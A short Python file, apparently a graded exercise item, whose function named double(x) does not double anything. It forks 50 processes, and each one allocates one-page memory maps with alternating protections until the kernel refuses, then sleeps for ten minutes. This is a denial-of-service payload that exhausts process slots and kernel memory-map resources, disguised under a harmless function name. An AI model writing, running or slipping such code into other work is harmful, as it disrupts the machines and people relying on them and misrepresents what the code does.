# Maps of one page each, as many as there may be: what the kernel notes of them belongs to no map.
# points: double=0 total=7 stack=6
# %% double
import mmap
import os
import time


def double(x):
    for _ in range(50):
        if os.fork() == 0:
            maps = []
            try:
                while True:
                    maps.append(mmap.mmap(-1, mmap.PAGESIZE, prot=(mmap.PROT_READ, mmap.PROT_WRITE)[len(maps) % 2]))
            except (OSError, MemoryError):
                time.sleep(600)
    time.sleep(600)
